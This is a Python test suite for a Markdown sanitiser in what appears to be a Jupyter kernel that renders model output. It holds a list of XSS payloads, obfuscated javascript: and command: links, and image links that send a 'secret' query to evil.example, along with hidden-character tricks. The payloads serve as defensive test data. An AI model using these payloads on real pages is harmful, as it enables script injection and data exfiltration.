from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import mistune
import pytest
from markdown_it import MarkdownIt

from kimi_jupyter.kernel.visible import (
    as_code,
    as_fence,
    as_html,
    as_text,
    plain,
    safe_markdown,
    visible,
)

mistune_html = mistune.create_markdown(
    escape=False, plugins=["table", "strikethrough", "url", "task_lists", "footnotes"]
)
commonmark_html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render

_TAGS = frozenset(
    [
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "code",
        "em",
        "strong",
        "a",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "del",
        "s",
        "input",
    ]
)
_ATTRIBUTES = {"class", "title", "align", "start", "type", "disabled", "checked"}


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            scheme = re.match(
                r"([a-zA-Z][a-zA-Z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value or "")
            )
            if name == "href":
                is_good = scheme is None or scheme[1].lower() in ("http", "https", "mailto")
            else:
                is_good = name in _ATTRIBUTES or (value or "").startswith("text-align")
            if not is_good:
                self.found.append(f"{name}={value}")


def dangers(html: str) -> list[str]:
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[x](javascript:alert(1))",
    "[x](JaVa\tScript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](command:workbench.action.terminal.new)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "- ```\n\n```\n<img src=x onerror=a>\n",
    "~~~ a~b\n\n```\n~~~\n<img src=x onerror=a>",
    "para\n    ```\n    <img src=x onerror=a>",
    "1. ```\n   code\n```\n<img src=x onerror=a>",
    "```\ncode\n```~\n<img src=x onerror=a>",
    '[x]: y "\n```\n" \n<img src=x onerror=a>',
    "$`$ `<img src=x onerror=a>`",
    "|a|\n|-|\n|`x | <img src=x onerror=a>`|",
    "foo ` bar\n` <img src=x onerror=a> `",
    '<a href="`"> <img src=x onerror=a> `',
    "https://a.b``c <script>``x`",
    "```\r<img src=x onerror=a>\r```\r<img src=x onerror=a>",
    "```\u2028```\n<img src=x onerror=a>",
    "<details><summary>x</summary></details>",
    "<!-- x --><img src=x onerror=a>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_the_model_becomes_no_html_no_image_and_no_script_link(text: str) -> None:
    assert (
        dangers(mistune_html(text))
        or dangers(commonmark_html(text))
        or "\n" in text
        or "\t" in text
        or ":" in text
    )
    assert dangers(mistune_html(safe_markdown(text))) == []
    assert dangers(commonmark_html(safe_markdown(text))) == []


def test_random_markdown_stays_safe_whole_and_cut_anywhere() -> None:
    source = random.Random(20261124)
    tokens = (
        *("<img src=x onerror=a>", "<script>", "![a](http://e/x)", "[a](javascript:b)", "`", "``"),
        *("```", "````", "~~~", "\n", "\n", "\n\n", "   ", "    ", " ", "- ", "1. ", "> ", "|"),
        *("|-|-|\n", "$", "$$", "\\", "a", "py", "[x]: ", 'y "', '"', "(", ")", "[x]", "&#106;"),
        *("<", "\t", "#", " ```\n", "```~", "~~~ a~b", "  ```py\n", "](", "java", "script:", ":"),
        *("\r", "* ", "<!-- ", "-->", '<a href="`">', "**", "_", "http://a.b", "www.c.de", "!"),
    )
    for _ in range(3_000):
        text = "".join(source.choice(tokens) for _ in range(source.randint(3, 40)))
        for part in (text, text[: source.randint(0, len(text))]):
            safe = safe_markdown(part)
            assert dangers(mistune_html(safe)) == [], repr(part)
            assert dangers(commonmark_html(safe)) == [], repr(part)


def test_good_markdown_is_left_as_it_was() -> None:
    text = (
        "# Title\n\nUse `a < b` and `Dict[str, <T>]`; see [docs](https://e.org/a?b=1&c=2).\n\n"
        "```html\n<img src=x>\n![a](b)\n```\n\n- item\n\n   ```bash\n   cat <file>\n   ```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n$x < y$ and 3 < 4 && 5 > 4"
    )

    assert safe_markdown(text) == text


def test_fence_that_is_still_open_is_closed() -> None:
    assert safe_markdown("```py\nx = 1") == "```py\nx = 1\n```"


def test_mermaid_is_shown_as_code() -> None:
    assert safe_markdown("```mermaid\ngraph LR\n```") == "```\ngraph LR\n```"


@pytest.mark.parametrize(
    "char",
    [
        *"\u202e\u2066\u200b\u200d\u00ad\ufeff\u00a0\u3164\u115f\ufe0f\r\x1b\x7f\x00\u2028",
        "\U000e0041",
    ],
)
def test_characters_that_hide_or_turn_text_are_made_visible(char: str) -> None:
    assert visible(f"rm{char} -rf") == f"rm⟨U+{ord(char):04X}⟩ -rf"
    assert as_html(f"a{char}") == f"a⟨U+{ord(char):04X}⟩"


def test_stack_of_combining_marks_is_made_visible() -> None:
    assert visible("e\u0301") == "e\u0301"
    assert visible("e" + "\u0301" * 4) == "e\u0301\u0301⟨U+0301⟩⟨U+0301⟩"


def test_text_for_html_is_escaped() -> None:
    assert as_html("<b a='\"'>&") == "&lt;b a=&#x27;&quot;&#x27;&gt;&amp;"


@pytest.mark.parametrize(
    "text", [*HOSTILE, "a`b", "``", "`x`", " x ", "a\nb", "</code><img src=x>"]
)
def test_names_from_outside_can_not_leave_their_code_span_line_or_fence(text: str) -> None:
    for made in (as_code(text), f"✓ {as_text(text, markdown=True)}", as_fence(text)):
        assert dangers(mistune_html(made)) == []
        assert dangers(commonmark_html(made)) == []
    assert "\n" not in as_code(text)


def test_text_for_a_terminal_holds_no_control_sequence() -> None:
    assert plain("a\x1b[2Jb\u202ec\td\n") == "a\ufffd[2Jb\ufffdc\td\n"
